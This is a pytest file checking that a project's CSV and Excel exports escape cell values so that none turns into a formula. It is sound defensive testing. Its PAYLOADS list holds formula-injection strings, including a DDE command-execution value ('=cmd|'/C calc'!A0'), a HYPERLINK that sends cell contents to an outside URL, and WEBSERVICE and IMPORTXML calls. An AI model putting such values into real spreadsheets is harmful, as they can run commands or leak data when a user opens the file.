"""No cell of an export is a formula, whoever typed what is in it."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from branchlife.cells import csv_cell, put
from tests.architecture.source import APPS, name_of, python_files

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://a/?\"&A1)", "=cmd|'/C calc'!A0", "\t=1", "\r=1",
    "\n=1",
    "  =1+1", "＝1+1", "＋1", "－1", "＠A", "=WEBSERVICE(1)", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(1)",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv(payload: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(payload)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell.startswith("'")
    assert cell[1:] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_workbook(payload: str) -> None:
    book = Workbook()
    put(book.active["A1"], payload)
    file = io.BytesIO()
    book.save(file)
    cell = load_workbook(file).active["A1"]
    assert cell.data_type == "s"
    assert str(cell.value).strip() == payload.strip()


def test_without_the_guard_it_would_be_a_formula() -> None:
    book = Workbook()
    book.active["A1"].value = "=1+1"
    assert book.active["A1"].data_type == "f"


def test_what_is_harmless_stays_as_it_is() -> None:
    assert [csv_cell(each) for each in ("李四", 3, -2.5, None, "三会一课")] == [
        "李四",
        3,
        -2.5,
        "",
        "三会一课",
    ]
    book = Workbook()
    put(book.active["A1"], -2)
    put(book.active["A2"], "a\x0bb" + "x" * 40_000)
    assert book.active["A1"].data_type == "n"
    assert len(str(book.active["A2"].value)) == 32_767


def test_nobody_writes_cells_past_it() -> None:
    """A module that makes a sheet takes its cells from here. The empty templates hold our own words only."""
    ours = {"branchlife/cells.py", "meetings/workbooks/blank.py"}
    makers = {
        name_of(path): path.read_text(encoding="utf8")
        for path in python_files(*APPS)
        if any(
            word in path.read_text(encoding="utf8") for word in ("csv.writer", "csv.DictWriter", "Workbook(")
        )
    }
    assert [
        name for name, text in makers.items() if name not in ours and "branchlife.cells" not in text
    ] == []
